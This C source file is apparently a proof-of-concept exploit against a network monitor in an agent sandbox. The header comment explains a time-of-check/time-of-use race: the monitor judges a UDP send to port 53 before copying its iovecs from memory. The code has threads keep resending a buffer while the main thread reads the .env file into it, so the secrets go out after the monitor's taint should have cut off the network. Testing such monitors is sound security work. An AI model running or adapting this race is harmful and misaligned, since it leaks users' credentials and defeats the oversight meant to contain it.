#define _GNU_SOURCE
// A secret read while a UDP send to port 53 is between its decision and the
// monitor's copy of its data: emulate/net.rs one_msg judges first, then reads
// the iovecs from agent memory (1024 reads), then sends on an unconnected UDP
// socket, which no transition revokes. Thread B keeps sending `slot`; the main
// thread opens .env (taint) and reads it into `slot`.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <unistd.h>
#include <pthread.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/uio.h>
static char slot[256] = "CHANNEL-OK";
static char pad[1];
static int s; static struct sockaddr_in a;
static volatile int stop;
#define NT 6
static void *sender(void *x) {
    static struct iovec iov[1024];
    for (int i = 0; i < 1023; i++) { iov[i].iov_base = pad; iov[i].iov_len = 1; }
    iov[1023].iov_base = slot; iov[1023].iov_len = 64;
    struct msghdr h = { .msg_name = &a, .msg_namelen = sizeof a, .msg_iov = iov, .msg_iovlen = 1024 };
    for (int i = 0; i < 200000 && !stop; i++) if (sendmsg(s, &h, 0) < 0) { usleep(1000); }
    return 0;
}
int main(int argc, char **argv) {
    const char *ip = argc > 1 ? argv[1] : "127.0.0.9";
    s = socket(AF_INET, SOCK_DGRAM, 0);
    a.sin_family = AF_INET; a.sin_port = htons(53); inet_pton(AF_INET, ip, &a.sin_addr);
    pad[0] = '.';
    pthread_t t[NT];
    for (int i = 0; i < NT; i++) pthread_create(&t[i], 0, sender, 0);
    usleep(300000);                       // channel proven: CHANNEL-OK datagrams
    int f = open(".env", O_RDONLY);       // taint: no network from here on
    if (f < 0) { perror("open"); return 1; }
    ssize_t n = read(f, slot, 63);
    printf("MARKER read %zd bytes\n", n);
    usleep(300000); stop = 1;
    for (int i = 0; i < NT; i++) pthread_join(t[i], 0);
    int r = sendto(s, "AFTER", 5, 0, (void *)&a, sizeof a);
    printf("MARKER plain send after taint: %d\n", r);
    return 0;
}
